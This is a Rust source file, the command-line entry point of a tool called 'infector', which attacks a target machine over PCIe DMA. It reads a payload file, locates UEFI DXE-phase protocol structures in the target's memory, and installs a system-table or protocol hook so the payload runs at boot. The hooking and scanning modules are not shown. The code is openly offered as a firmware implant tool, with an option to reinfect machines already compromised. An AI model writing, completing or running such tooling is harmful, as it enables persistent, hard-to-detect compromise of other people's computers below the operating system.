//! `infector` — PCIe-DMA UEFI DXE-stage infector CLI.
//!
//! Waits for the target's PCI-E link, locates the structures the chosen
//! hook method needs, plants the payload, and installs the hook.

use std::time::Instant;

use clap::Parser;
use tracing::{error, info};
use tracing_subscriber::{fmt, prelude::*, EnvFilter};

use infector::config::{CliArgs, Config};
use infector::error::InfectorError;
use infector::guiddb;
use infector::hook::{self, HookMethod};
use infector::protocol::{enum_entries, Visitor};
use infector::scanner::find_protocol_entry;
use infector::supervisor;
use infector::transport::PcieTransport;

fn main() {
    tracing_subscriber::registry()
        .with(fmt::layer().with_target(true))
        .with(EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")))
        .init();

    let args = CliArgs::parse();
    let exit_code = match run(args) {
        Ok(()) => 0,
        Err(e) => {
            error!("{e}");
            e.exit_code()
        }
    };
    std::process::exit(exit_code);
}

fn run(args: CliArgs) -> Result<(), InfectorError> {
    let cfg = Config::from_args(args)?;

    info!("reading DXE phase payload from {}", cfg.payload.display());
    let payload = std::fs::read(&cfg.payload).map_err(|e| InfectorError::PayloadIo {
        path: cfg.payload.display().to_string(),
        source: e,
    })?;

    let names = if cfg.guids.exists() {
        guiddb::by_guid(&guiddb::load(&cfg.guids)?)
    } else {
        Default::default()
    };

    let device_path = cfg.device.clone();
    let mut dev = supervisor::wait_for_endpoint(
        || PcieTransport::open(&device_path),
        cfg.allow_reinfect,
    )?;

    if cfg.list_protocols {
        let root = find_protocol_entry(&mut dev, cfg.scan_bounds)?;
        enum_entries(&mut dev, root, &Visitor::Print { names: &names })?;
        return Ok(());
    }

    let start = Instant::now();
    let state = match cfg.method {
        HookMethod::SystemTable => {
            hook::install_system_table_hook(&mut dev, &payload, None)?
        }
        HookMethod::Protocol => hook::install_protocol_hook(
            &mut dev,
            &payload,
            None,
            cfg.target,
            cfg.scan_bounds,
        )?,
    };

    info!(
        elapsed_secs = start.elapsed().as_secs_f64(),
        entry_addr = ?state.entry_addr.map(|a| format!("0x{a:x}")),
        patch_site = ?state.patch_site.map(|a| format!("0x{a:x}")),
        "installation complete"
    );

    Ok(())
}
